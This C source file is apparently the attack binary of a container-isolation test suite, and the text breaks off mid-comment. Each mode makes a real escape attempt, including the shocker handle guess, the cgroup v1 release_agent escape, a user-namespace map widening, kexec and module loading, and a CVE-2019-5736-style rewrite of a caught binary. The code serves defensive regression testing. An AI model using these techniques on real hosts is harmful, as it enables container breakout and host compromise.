/* SPDX-License-Identifier: LGPL-2.1-or-later */

/* The escape suite's attack binary: static, multi-call, copied into a container as /attack and run there as
 *
 *         /attack MODE [ARG…]            or            /attack hold MODE [ARG…]
 *
 * Each mode makes one real attempt at leaving the container (or at reaching the host's kernel through a door a
 * container must not have) and prints one line per step: "MODE STEP: ok" or "MODE STEP: refused ERRNO". With
 * "hold", the process then prints "holding" and waits for a signal, keeping whatever it obtained (descriptors,
 * namespaces, child processes) for the host to look at.
 *
 * The verdict is never taken from this output alone: every case asserts on the host (a canary file, a host
 * process, a sysctl, the descriptors a container process holds). The exit status is 0 when every step was
 * refused, 1 when one succeeded, 2 on a usage error. A new attack is a new function in the mode table. */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/kexec.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <linux/userfaultfd.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/timex.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* Syscall numbers this libc's headers may not name yet. */
#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif
#ifndef SYS_move_mount
#define SYS_move_mount 429
#endif
#ifndef SYS_fsopen
#define SYS_fsopen 430
#endif
#ifndef SYS_fsconfig
#define SYS_fsconfig 431
#endif
#ifndef SYS_fsmount
#define SYS_fsmount 432
#endif
#ifndef SYS_clone3
#define SYS_clone3 435
#endif
#define OPEN_TREE_CLONE_ 1
#define MOVE_MOUNT_F_EMPTY_PATH_ 0x00000004
#define FSCONFIG_CMD_CREATE_ 6

static bool escaped = false;
static volatile sig_atomic_t stopping = 0;

static void on_term(int sig) {
        (void) sig;
        stopping = 1;
}
static pid_t children[8];
static size_t n_children = 0;

/* step WHAT R: reports one attempt; R < 0 means refused, errno says why */
static int step(const char *mode, const char *what, long r) {
        if (r < 0) {
                int e = errno;
                printf("%s %s: refused %s\n", mode, what, strerrorname_np(e) ?: "?");
                fflush(stdout);
                errno = e;
                return -e;
        }
        printf("%s %s: ok\n", mode, what);
        fflush(stdout);
        escaped = true;
        return 0;
}

static int write_all(int fd, const char *data) {
        size_t n = strlen(data);
        ssize_t k = write(fd, data, n);
        if (k < 0)
                return -1;
        if ((size_t) k != n) {
                errno = EIO;
                return -1;
        }
        return 0;
}

/* Prints what was read as text, non-printable bytes as '.', so a case can grep a leaked token. */
static void show(const char *mode, const char *what, const char *buf, ssize_t n) {
        printf("%s %s data: ", mode, what);
        for (ssize_t i = 0; i < n; i++)
                putchar(buf[i] >= 0x20 && buf[i] < 0x7f ? buf[i] : '.');
        putchar('\n');
        fflush(stdout);
}

static int try_write(const char *mode, const char *path, const char *data) {
        int fd = open(path, O_WRONLY | O_CLOEXEC | O_NOCTTY);
        if (step(mode, path, fd) < 0)
                return -1;
        int r = step(mode, "write", write_all(fd, data));
        close(fd);
        return r;
}

static int try_read(const char *mode, const char *path, off_t offset, size_t len) {
        char buf[65536];
        int fd = open(path, O_RDONLY | O_CLOEXEC | O_NOCTTY);
        if (step(mode, path, fd) < 0)
                return -1;
        if (len > sizeof(buf))
                len = sizeof(buf);
        ssize_t n = pread(fd, buf, len, offset);
        close(fd);
        if (step(mode, "read", n) < 0)
                return -1;
        show(mode, path, buf, n);
        return 0;
}

static long num(const char *s) {
        char *end;
        errno = 0;
        long long v = strtoll(s, &end, 0);
        if (errno != 0 || *end != '\0' || end == s) {
                fprintf(stderr, "attack: not a number: '%s'\n", s);
                exit(2);
        }
        return (long) v;
}

/* ---- files and /proc */

/* write PATH DATA: open an existing file for writing (no O_CREAT, no O_TRUNC) and write DATA */
static int mode_write(int argc, char **argv) {
        (void) argc;
        return try_write("write", argv[1], argv[2]);
}

/* create PATH DATA: create PATH (O_EXCL) and write DATA */
static int mode_create(int argc, char **argv) {
        (void) argc;
        int fd = open(argv[1], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
        if (step("create", argv[1], fd) < 0)
                return -1;
        int r = step("create", "write", write_all(fd, argv[2]));
        close(fd);
        return r;
}

/* read PATH [OFFSET [LEN]] */
static int mode_read(int argc, char **argv) {
        return try_read("read", argv[1], argc > 2 ? num(argv[2]) : 0, argc > 3 ? (size_t) num(argv[3]) : 4096);
}

/* proc-roots PATH DATA: for every PID this /proc shows, read and write /proc/PID/root/PATH — the host's file,
 * if any PID in view were a host process (or its root the host's). */
static int mode_proc_roots(int argc, char **argv) {
        (void) argc;
        DIR *d = opendir("/proc");
        struct dirent *de;
        char path[4096];

        if (step("proc-roots", "/proc", d ? 0 : -1) < 0)
                return -1;
        escaped = false;        /* listing /proc is no escape */
        while ((de = readdir(d))) {
                if (de->d_name[0] < '0' || de->d_name[0] > '9')
                        continue;
                snprintf(path, sizeof(path), "/proc/%s/root/%s", de->d_name, argv[1]);
                try_read("proc-roots", path, 0, 256);
                try_write("proc-roots", path, argv[2]);
        }
        closedir(d);
        return 0;
}

/* handle MOUNTPATH INO GEN RELPATH DATA: "shocker": open_by_handle_at() with a guessed handle of an inode of the
 * filesystem MOUNTPATH is on (ext4's root directory is inode 2, generation 0), then RELPATH below it. */
static int mode_handle(int argc, char **argv) {
        (void) argc;
        struct {
                struct file_handle h;
                uint32_t ino_gen[2];
        } fh = { .h = { .handle_bytes = 8, .handle_type = 1 /* FILEID_INO32_GEN */ } };
        fh.ino_gen[0] = (uint32_t) num(argv[2]);
        fh.ino_gen[1] = (uint32_t) num(argv[3]);

        int mfd = open(argv[1], O_RDONLY | O_CLOEXEC);
        if (mfd < 0) {
                printf("handle %s: cannot open: %s\n", argv[1], strerrorname_np(errno) ?: "?");
                return -1;
        }
        int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        close(mfd);
        if (step("handle", "open_by_handle_at", fd) < 0)
                return -1;
        int wfd = openat(fd, argv[4], O_RDWR | O_CLOEXEC);
        close(fd);
        if (step("handle", argv[4], wfd) < 0)
                return -1;
        char buf[256];
        ssize_t n = pread(wfd, buf, sizeof(buf), 0);
        if (n >= 0)
                show("handle", argv[4], buf, n);
        step("handle", "write", pwrite(wfd, argv[5], strlen(argv[5]), 0));
        close(wfd);
        return 0;
}

/* ---- mounts */

/* mount SRC TARGET FSTYPE [DATA]: a new mount of FSTYPE (proc, sysfs, ext4 of a device, cgroup…) */
static int mode_mount(int argc, char **argv) {
        mkdir(argv[2], 0755);
        return step("mount", argv[2], mount(argv[1], argv[2], argv[3], 0, argc > 4 ? argv[4] : NULL));
}

/* bind SRC TARGET */
static int mode_bind(int argc, char **argv) {
        (void) argc;
        mkdir(argv[2], 0755);
        return step("bind", argv[2], mount(argv[1], argv[2], NULL, MS_BIND | MS_REC, NULL));
}

/* umount TARGET: lift a mask or a read-only mount (MNT_DETACH, as an attacker would) */
static int mode_umount(int argc, char **argv) {
        (void) argc;
        return step("umount", argv[1], umount2(argv[1], MNT_DETACH));
}

/* remount-rw TARGET: turn a read-only mount writable */
static int mode_remount_rw(int argc, char **argv) {
        (void) argc;
        return step("remount-rw", argv[1], mount(NULL, argv[1], NULL, MS_REMOUNT | MS_BIND, NULL));
}

/* pivot-root NEW PUT_OLD */
static int mode_pivot_root(int argc, char **argv) {
        (void) argc;
        mkdir(argv[1], 0755);
        mkdir(argv[2], 0755);
        return step("pivot-root", argv[1], syscall(SYS_pivot_root, argv[1], argv[2]));
}

/* open-tree SRC TARGET: clone a mount with open_tree() and attach it with move_mount() */
static int mode_open_tree(int argc, char **argv) {
        (void) argc;
        int fd = syscall(SYS_open_tree, AT_FDCWD, argv[1], OPEN_TREE_CLONE_ | O_CLOEXEC);
        if (step("open-tree", argv[1], fd) < 0)
                return -1;
        mkdir(argv[2], 0755);
        int r = step("open-tree", "move_mount",
                     syscall(SYS_move_mount, fd, "", AT_FDCWD, argv[2], MOVE_MOUNT_F_EMPTY_PATH_));
        close(fd);
        return r;
}

/* fsopen FSTYPE TARGET: a new filesystem instance through fsopen/fsconfig/fsmount/move_mount */
static int mode_fsopen(int argc, char **argv) {
        (void) argc;
        int fs = syscall(SYS_fsopen, argv[1], 1 /* FSOPEN_CLOEXEC */);
        if (step("fsopen", argv[1], fs) < 0)
                return -1;
        if (step("fsopen", "fsconfig", syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE_, NULL, NULL, 0)) < 0)
                return -1;
        int m = syscall(SYS_fsmount, fs, 1 /* FSMOUNT_CLOEXEC */, 0);
        if (step("fsopen", "fsmount", m) < 0)
                return -1;
        mkdir(argv[2], 0755);
        return step("fsopen", "move_mount", syscall(SYS_move_mount, m, "", AT_FDCWD, argv[2], MOVE_MOUNT_F_EMPTY_PATH_));
}

/* ---- user namespaces: each entry point; what got one stays in it (with "hold") for the host to see */

static void child_holds(void) {
        /* the child: in the new namespace, waits to be killed with the container */
        while (!stopping)
                pause();
        _exit(0);
}

static int mode_unshare(int argc, char **argv) {
        (void) argc, (void) argv;
        return step("unshare", "CLONE_NEWUSER", unshare(CLONE_NEWUSER));
}

static int mode_clone(int argc, char **argv) {
        (void) argc, (void) argv;
        pid_t pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, 0);
        if (pid == 0)
                child_holds();
        if (pid > 0)
                children[n_children++] = pid;
        return step("clone", "CLONE_NEWUSER", pid);
}

static int mode_clone3(int argc, char **argv) {
        (void) argc, (void) argv;
        struct clone_args a = { .flags = CLONE_NEWUSER, .exit_signal = SIGCHLD };
        pid_t pid = syscall(SYS_clone3, &a, sizeof(a));
        if (pid == 0)
                child_holds();
        if (pid > 0)
                children[n_children++] = pid;
        return step("clone3", "CLONE_NEWUSER", pid);
}

/* ---- a user namespace's own maps (a container with PrivateUsers=) */

/* uid-map MAP: widen the container's own maps to MAP (e.g. "0 0 4294967295", every host id) and turn
 * setgroups() back on; then become root by the map, whatever it now says */
static int mode_uid_map(int argc, char **argv) {
        (void) argc;
        try_write("uid-map", "/proc/self/uid_map", argv[1]);
        try_write("uid-map", "/proc/self/gid_map", argv[1]);
        try_write("uid-map", "/proc/self/setgroups", "allow");
        escaped = false;        /* only what the maps give counts: the host reads them, and the process's ids */
        (void) setresgid(0, 0, 0);
        (void) setresuid(0, 0, 0);
        return 0;
}

/* nested-userns MAP PATH DATA: a child in a new user and mount namespace, mapped by its parent with MAP (the
 * parent's ids, e.g. "0 0 4294967295" to reach the host's) or, refused, with "0 0 1"; root there then writes
 * the host file PATH (through a volume), creates PATH.nested beside it and mounts a tmpfs over its directory
 * (the host must see neither). */
static int mode_nested_userns(int argc, char **argv) {
        (void) argc;
        int go[2], ready[2];
        char c = 0, map[64];

        if (pipe2(go, O_CLOEXEC) < 0 || pipe2(ready, O_CLOEXEC) < 0)
                return step("nested-userns", "pipe", -1);
        pid_t pid = fork();
        if (pid < 0)
                return step("nested-userns", "fork", -1);
        if (pid == 0) {
                char dir[4096], created[4200];

                if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
                        c = 1;
                if (write(ready[1], &c, 1) != 1 || c || read(go[0], &c, 1) != 1)
                        _exit(1);
                (void) setresgid(0, 0, 0);
                (void) setresuid(0, 0, 0);
                try_write("nested-userns", argv[2], argv[3]);
                snprintf(created, sizeof(created), "%s.nested", argv[2]);
                int fd = open(created, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
                step("nested-userns", created, fd);
                snprintf(dir, sizeof(dir), "%s", argv[2]);
                char *slash = strrchr(dir, '/');
                if (slash && slash != dir)
                        *slash = '\0';
                /* a mount in the nested namespace is its own: reported, never counted */
                int m = mount("tmpfs", dir, "tmpfs", 0, NULL);
                printf("nested-userns mount over %s: %s\n", dir, m < 0 ? strerrorname_np(errno) : "done");
                fflush(stdout);
                _exit(escaped ? 1 : 0);
        }
        children[n_children++] = pid;
        if (read(ready[0], &c, 1) != 1 || c) {
                errno = EPERM;
                return step("nested-userns", "unshare CLONE_NEWUSER", -1);
        }
        step("nested-userns", "unshare CLONE_NEWUSER", 0);
        escaped = false;        /* a namespace of its own is no escape: what root in it reaches is */
        const char *maps[] = { argv[1], "0 0 1" };
        for (size_t i = 0; i < 2; i++) {
                bool ok = true;
                for (size_t k = 0; k < 2; k++) {
                        snprintf(map, sizeof(map), "/proc/%d/%s", (int) pid, k ? "gid_map" : "uid_map");
                        int fd = open(map, O_WRONLY | O_CLOEXEC);
                        int r = fd < 0 ? -1 : write_all(fd, maps[i]);
                        printf("nested-userns %s '%s': %s\n", k ? "gid_map" : "uid_map", maps[i],
                               r < 0 ? strerrorname_np(errno) : "written");
                        if (fd >= 0)
                                close(fd);
                        ok = ok && r == 0;
                }
                if (ok)
                        break;
        }
        fflush(stdout);
        int st = 0;
        if (write(go[1], &c, 1) != 1 || waitpid(pid, &st, 0) != pid)
                return step("nested-userns", "child", -1);
        n_children--;
        if (WIFEXITED(st) && WEXITSTATUS(st) == 1)
                escaped = true;
        return 0;
}

/* ---- the host's clock */

/* clock ESTERROR: set the clock to what it says now, and the kernel's estimated error to ESTERROR (µs): a
 * value the host reads back (clock-show) and nothing else uses while no NTP daemon runs */
static int mode_clock(int argc, char **argv) {
        (void) argc;
        struct timespec now;
        struct timex tx = { .modes = ADJ_ESTERROR, .esterror = num(argv[1]) };

        clock_gettime(CLOCK_REALTIME, &now);
        step("clock", "clock_settime", clock_settime(CLOCK_REALTIME, &now));
        return step("clock", "adjtimex ADJ_ESTERROR", adjtimex(&tx));
}

/* clock-show: the kernel's estimated error (run on the host, to compare) */
static int mode_clock_show(int argc, char **argv) {
        (void) argc, (void) argv;
        struct timex tx = {};

        if (adjtimex(&tx) < 0)
                return step("clock-show", "adjtimex", -1);
        printf("esterror %ld\n", tx.esterror);
        fflush(stdout);
        return 0;
}

/* ---- kernel interfaces a container has no business with */

/* keys DESCRIPTION: a key and a named session keyring; uid 0's user keyring is the host root's */
static int mode_keys(int argc, char **argv) {
        (void) argc;
        long k = syscall(SYS_add_key, "user", argv[1], "escaped", 7, KEY_SPEC_USER_KEYRING);
        if (step("keys", "add_key", k) == 0)
                syscall(SYS_keyctl, KEYCTL_SET_TIMEOUT, k, 300);
        long s = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, argv[1]);
        if (step("keys", "keyctl join", s) == 0)
                syscall(SYS_keyctl, KEYCTL_SET_TIMEOUT, s, 300);
        return 0;
}

/* bpf: a map and a socket filter program ("r0 = 0; exit") */
static int mode_bpf(int argc, char **argv) {
        (void) argc, (void) argv;
        union bpf_attr a = { .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 8, .max_entries = 1 };
        step("bpf", "BPF_MAP_CREATE", syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof(a)));

        struct bpf_insn prog[] = {
                { .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0 },
                { .code = BPF_JMP | BPF_EXIT },
        };
        union bpf_attr p = {
                .prog_type = BPF_PROG_TYPE_SOCKET_FILTER,
                .insn_cnt = 2,
                .insns = (uintptr_t) prog,
                .license = (uintptr_t) "GPL",
        };
        step("bpf", "BPF_PROG_LOAD", syscall(SYS_bpf, BPF_PROG_LOAD, &p, sizeof(p)));
        return 0;
}

/* perf: a software counter on this process, and one system-wide on CPU 0 */
static int mode_perf(int argc, char **argv) {
        (void) argc, (void) argv;
        struct perf_event_attr a = {
                .type = PERF_TYPE_SOFTWARE,
                .size = sizeof(a),
                .config = PERF_COUNT_SW_CPU_CLOCK,
                .disabled = 1,
        };
        step("perf", "self", syscall(SYS_perf_event_open, &a, 0, -1, -1, 0));
        step("perf", "cpu0", syscall(SYS_perf_event_open, &a, -1, 0, -1, 0));
        return 0;
}

static int mode_userfaultfd(int argc, char **argv) {
        (void) argc, (void) argv;
        step("userfaultfd", "syscall", syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY));
        int fd = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
        if (step("userfaultfd", "/dev/userfaultfd", fd) == 0)
                step("userfaultfd", "USERFAULTFD_IOC_NEW", ioctl(fd, USERFAULTFD_IOC_NEW, O_CLOEXEC));
        return 0;
}

static int mode_io_uring(int argc, char **argv) {
        (void) argc, (void) argv;
        struct io_uring_params p = {};
        return step("io_uring", "io_uring_setup", syscall(SYS_io_uring_setup, 8, &p));
}

/* modules FILE NAME: load FILE (finit_module, init_module) and unload NAME (delete_module) */
static int mode_modules(int argc, char **argv) {
        (void) argc;
        int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                printf("modules %s: cannot open: %s\n", argv[1], strerrorname_np(errno) ?: "?");
        /* 4 = MODULE_INIT_COMPRESSED_FILE: lets the kernel decompress a .ko.xz/.ko.zst itself */
        step("modules", "finit_module", syscall(SYS_finit_module, fd, "", strstr(argv[1], ".ko.") ? 4 : 0));
        if (fd >= 0) {
                static char buf[16 << 20];
                ssize_t n = pread(fd, buf, sizeof(buf), 0);
                if (n > 0)
                        step("modules", "init_module", syscall(SYS_init_module, buf, (unsigned long) n, ""));
                close(fd);
        }
        step("modules", "delete_module", syscall(SYS_delete_module, argv[2], O_NONBLOCK));
        return 0;
}

/* kexec KERNEL: kexec_file_load() of KERNEL and kexec_load() of one page; nothing is executed */
static int mode_kexec(int argc, char **argv) {
        (void) argc;
        int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                printf("kexec %s: cannot open: %s\n", argv[1], strerrorname_np(errno) ?: "?");
        step("kexec", "kexec_file_load", syscall(SYS_kexec_file_load, fd, -1, 1, "", 0UL));
        static char page[4096] __attribute__((aligned(4096)));
        struct kexec_segment seg = { .buf = page, .bufsz = sizeof(page), .mem = (void *) 0x1000000,
                                     .memsz = sizeof(page) };
        step("kexec", "kexec_load", syscall(SYS_kexec_load, 0x1000000UL, 1UL, &seg, KEXEC_ARCH_DEFAULT));
        return 0;
}

/* kexec-unload: the host's cleanup, should a kexec attack ever succeed */
static int mode_kexec_unload(int argc, char **argv) {
        (void) argc, (void) argv;
        step("kexec-unload", "kexec_load", syscall(SYS_kexec_load, 0UL, 0UL, NULL, KEXEC_ARCH_DEFAULT));
        step("kexec-unload", "kexec_file_load", syscall(SYS_kexec_file_load, -1, -1, 0, NULL, 2UL /* UNLOAD */));
        return 0;
}

/* ---- devices */

/* mknod-read PATH MAJOR MINOR OFFSET LEN: make a block device node and read it */
static int mode_mknod_read(int argc, char **argv) {
        (void) argc;
        if (step("mknod-read", "mknod", mknod(argv[1], S_IFBLK | 0600, makedev(num(argv[2]), num(argv[3])))) < 0 &&
            errno != EEXIST)
                return -1;
        return try_read("mknod-read", argv[1], num(argv[4]), (size_t) num(argv[5]));
}

/* ---- other processes */

/* kill PID [SIG], also PID -1: every process the container can signal */
static int mode_kill(int argc, char **argv) {
        return step("kill", argv[1], kill((pid_t) num(argv[1]), argc > 2 ? (int) num(argv[2]) : SIGKILL));
}

/* ptrace PID: attach, then detach */
static int mode_ptrace(int argc, char **argv) {
        (void) argc;
        pid_t pid = (pid_t) num(argv[1]);
        if (step("ptrace", "PTRACE_SEIZE", ptrace(PTRACE_SEIZE, pid, NULL, NULL)) == 0)
                return 0;
        return step("ptrace", "PTRACE_ATTACH", ptrace(PTRACE_ATTACH, pid, NULL, NULL));
}

/* abstract NAME MESSAGE: connect to the abstract unix socket @NAME and send MESSAGE */
static int mode_abstract(int argc, char **argv) {
        (void) argc;
        struct sockaddr_un sa = { .sun_family = AF_UNIX };
        size_t n = strlen(argv[1]);
        if (n + 1 > sizeof(sa.sun_path)) {
                fprintf(stderr, "attack: name too long\n");
                exit(2);
        }
        memcpy(sa.sun_path + 1, argv[1], n);
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (step("abstract", "socket", fd) < 0)
                return -1;
        escaped = false;        /* a socket of its own is no escape */
        if (step("abstract", "connect", connect(fd, (struct sockaddr *) &sa, offsetof(struct sockaddr_un, sun_path) + 1 + n)) < 0)
                return -1;
        step("abstract", "send", write_all(fd, argv[2]));
        close(fd);
        return 0;
}

/* ---- races */

/* swap-loop SECONDS A B [A B…]: exchanges each pair A <-> B (e.g. a directory and a symlink out of the root) in
 * a tight loop, while the host starts another container whose mounts land on A. */
static int mode_swap_loop(int argc, char **argv) {
        time_t end = time(NULL) + num(argv[1]);
        unsigned long n = 0;

        printf("swap-loop: running\n");
        fflush(stdout);
        while (time(NULL) < end && !stopping) {
                for (int i = 2; i + 1 < argc; i += 2)
                        if (syscall(SYS_renameat2, AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE) < 0) {
                                step("swap-loop", "renameat2", -1);
                                return -1;
                        }
                n++;
        }
        printf("swap-loop: %lu swaps\n", n);
        return 0;
}

/* release-agent DIR AGENT NAME: cgroup v1's classic: mount a v1 hierarchy at DIR, set release_agent to AGENT (a
 * host path to a script the container wrote), have a process leave a child cgroup NAME with notify_on_release
 * set, so that the kernel runs AGENT as root on the host */
static int mode_release_agent(int argc, char **argv) {
        (void) argc;
        char path[4096];
        const char *opts[] = { "none,name=ctr-escape", "rdma", "memory", "pids", NULL };
        int r = -1;

        mkdir(argv[1], 0755);
        for (size_t i = 0; opts[i] && r < 0; i++) {
                snprintf(path, sizeof(path), "cgroup v1 %s", opts[i]);
                r = step("release-agent", path, mount("cgroup", argv[1], "cgroup", 0, opts[i]));
        }
        snprintf(path, sizeof(path), "%s/release_agent", argv[1]);
        try_write("release-agent", path, argv[2]);
        snprintf(path, sizeof(path), "%s/%s", argv[1], argv[3]);
        step("release-agent", "mkdir", mkdir(path, 0755));
        snprintf(path, sizeof(path), "%s/%s/notify_on_release", argv[1], argv[3]);
        try_write("release-agent", path, "1");
        pid_t pid = fork();
        if (pid == 0) {
                char procs[4096], me[32];
                snprintf(procs, sizeof(procs), "%s/%s/cgroup.procs", argv[1], argv[3]);
                snprintf(me, sizeof(me), "%d", getpid());
                int fd = open(procs, O_WRONLY | O_CLOEXEC);
                if (fd >= 0)
                        (void) !write(fd, me, strlen(me));
                _exit(0);
        }
        if (pid > 0)
                waitpid(pid, NULL, 0);
        return 0;
}

/* ---- the caller's terminal */

/* tty-info: the session, and what fds 0-2 and /dev/tty are (the host compares st_dev with its own devpts) */
static int mode_tty_info(int argc, char **argv) {
        (void) argc, (void) argv;
        printf("tty-info sid=%ld pid=%ld\n", (long) getsid(0), (long) getpid());
        for (int i = 0; i < 4; i++) {
                char name[16], path[32], link[256] = "?";
                int fd = i < 3 ? i : open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
                struct stat st;

                snprintf(name, sizeof(name), i < 3 ? "fd %d" : "/dev/tty", i);
                if (fd < 0 || fstat(fd, &st) < 0) {
                        printf("tty-info %s: none (%s)\n", name, strerrorname_np(errno) ?: "?");
                        continue;
                }
                snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
                ssize_t n = readlink(path, link, sizeof(link) - 1);
                link[n > 0 ? n : 1] = '\0';
                printf("tty-info %s: %s dev=%ju tty=%s\n", name, link, (uintmax_t) st.st_dev,
                       isatty(fd) ? "yes" : "no");
                if (i == 3)
                        close(fd);
        }
        fflush(stdout);
        return 0;
}

/* idle: nothing; "hold idle" keeps a container running for ctrctl exec */
static int mode_idle(int argc, char **argv) {
        (void) argc, (void) argv;
        return 0;
}

/* ---- entering a container: ctrctl exec */

/* /proc/PID/FILE into |buf|, NUL-terminated: false when the process is gone */
static bool read_proc(pid_t pid, const char *file, char *buf, size_t size) {
        char path[64];
        snprintf(path, sizeof(path), "/proc/%d/%s", (int) pid, file);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        ssize_t n = fd < 0 ? -1 : read(fd, buf, size - 1);
        if (fd >= 0)
                close(fd);
        if (n <= 0)
                return false;
        buf[n] = '\0';
        return true;
}

/* "Seccomp:\tN" of /proc/PID/status: readable even for a process we may not trace; -1 when unknown */
static int seccomp_mode_of(pid_t pid) {
        char buf[4096];
        if (!read_proc(pid, "status", buf, sizeof(buf)))
                return -1;
        char *s = strstr(buf, "\nSeccomp:");
        return s ? atoi(s + strlen("\nSeccomp:")) : -1;
}

/* The state letter and the command name of /proc/PID/stat; false when the process is gone */
static bool stat_of(pid_t pid, char *state, char comm[32]) {
        char buf[512];
        if (!read_proc(pid, "stat", buf, sizeof(buf)))
                return false;
        char *l = strchr(buf, '('), *r = strrchr(buf, ')');
        if (!l || !r || r[1] == '\0')
                return false;
        snprintf(comm, 32, "%.*s", (int) (r - l - 1), l + 1);
        *state = r[2];
        return true;
}

typedef struct Catch {
        int exe_fds[64];
        size_t n_exe;
        size_t n_unfiltered, n_opened, n_seized;
} Catch;

/* One look at a stopped process: its /proc/PID/exe, then PTRACE_SEIZE. True once the exe was opened. */
static bool catch_probe(Catch *k, pid_t pid) {
        char path[64], target[256] = "";
        int mode = seccomp_mode_of(pid), fd;
        bool opened = false;

        snprintf(path, sizeof(path), "/proc/%d/exe", (int) pid);
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
                (void) readlink(path, target, sizeof(target) - 1);
                printf("exec-catch open %s (Seccomp:%d): ok -> %s\n", path, mode, target);
                if (k->n_exe < 64)
                        k->exe_fds[k->n_exe++] = fd;
                else
                        close(fd);
                k->n_opened++;
                opened = true;
                if (mode == 0)
                        escaped = true;
        }
        if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
                /* Traced before its execve: its registers and memory are ours, and with Seccomp:0 so is every
                 * syscall it makes for us, unfiltered. Held for a second, for the host to see it traced. */
                mode = seccomp_mode_of(pid);
                printf("exec-catch seize %d: ok, Seccomp:%d seized\n", (int) pid, mode);
                fflush(stdout);
                k->n_seized++;
                escaped = true;
                sleep(1);
                (void) ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
                (void) waitpid(pid, NULL, __WALL);
                (void) ptrace(PTRACE_DETACH, pid, NULL, NULL);
                opened = true;
        }
        fflush(stdout);
        return opened;
}

/* A process caught without a seccomp filter: the one entering. Single-steps it by signals (SIGCONT, then
 * SIGSTOP as soon as it is seen running) and probes it at each stop, until it executed something else, was
 * opened or seized, or is gone. */
static void catch_follow(Catch *k, pid_t pid) {
        char first[32], comm[32], state;

        if (!stat_of(pid, &state, first))
                return;
        k->n_unfiltered++;
        printf("exec-catch caught %d (%s) stopped with Seccomp:0\n", (int) pid, first);
        for (unsigned step_n = 0; step_n < 200000; step_n++) {
                unsigned spins = 0;

                while (stat_of(pid, &state, comm) && state != 'T' && state != 't' && spins++ < 100000)
                        sched_yield();
                if (!stat_of(pid, &state, comm) || strcmp(comm, first) != 0) {
                        printf("exec-catch followed %d for %u steps, now %s\n", (int) pid, step_n, comm);
                        break;          /* gone, or executed the command */
                }
                if (catch_probe(k, pid))
                        break;
                /* let it run until it is seen running, then stop it: a step of a few microseconds */
                kill(pid, SIGCONT);
                spins = 0;
                while (stat_of(pid, &state, comm) && (state == 'T' || state == 't') && spins++ < 100000)
                        ;
                kill(pid, SIGSTOP);
        }
}

/* exec-catch DONE: catches whatever enters the container (the process "ctrctl exec" forks into its PID
 * namespace) the way an attacker would, deterministically: PIDs of a namespace are handed out in order, so it
 * sends SIGSTOP (which cannot be blocked) to the next one until that exists; the new process stops at once,
 * at its first return to user space. One without a seccomp filter is the entering process: it is then
 * single-stepped by signals on its way to execve (SIGCONT, SIGSTOP as soon as it is seen running: steps of
 * a few microseconds) and, at every stop, its /proc/PID/exe opened and PTRACE_SEIZE tried. A seized process
 * is held for a second (so the host can see it traced) and reported with its filter mode ("Seccomp:0
 * seized": whatever it is made to do next runs unfiltered). Once the file DONE exists, every exe it opened
 * is rewritten through /proc/self/fd/N (the CVE-2019-5736 step: were it the host's ctrctl, the host's
 * binary). */
static int mode_exec_catch(int argc, char **argv) {
        (void) argc;
        Catch k = {};
        pid_t self = getpid(), next = self + 1;

        printf("exec-catch watching\n");
        fflush(stdout);
        for (unsigned long i = 0; !stopping; i++) {
                if (kill(next, SIGSTOP) == 0) {
                        if (seccomp_mode_of(next) == 0)
                                catch_follow(&k, next);
                        kill(next, SIGCONT);
                        next++;
                        fflush(stdout);
                        continue;
                }
                if (i % 1024 != 0)
                        continue;
                if (access(argv[1], F_OK) == 0)
                        break;
                /* a PID taken while we looked elsewhere: start again after the highest there is */
                DIR *d = opendir("/proc");
                struct dirent *de;
                pid_t max = 0;
                while (d && (de = readdir(d)))
                        if (atoi(de->d_name) > max && atoi(de->d_name) != self)
                                max = atoi(de->d_name);
                if (d)
                        closedir(d);
                if (max >= next)
                        next = max + 1;
        }

        printf("exec-catch saw %zu unfiltered, opened %zu exe, seized %zu\n", k.n_unfiltered, k.n_opened,
               k.n_seized);
        for (size_t i = 0; i < k.n_exe; i++) {
                char path[64];
                snprintf(path, sizeof(path), "/proc/self/fd/%d", k.exe_fds[i]);
                int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
                if (step("exec-catch", "rewrite exe", fd) == 0) {
                        (void) step("exec-catch", "write", write_all(fd, "#!/bin/sh\necho rewritten by the container\n"));
                        close(fd);
                }
                close(k.exe_fds[i]);
        }
        return 0;
}

/* fds-escape NAME CANARY: tries to reach a host directory through whatever it was given: every descriptor
 * it holds that is a directory, every /proc/self/fd link, its working directory; a file it holds is reopened
 * through its link to write. In each it creates NAME
 * and truncates and writes CANARY (a file name), which it also looks for up to 16 levels above its working
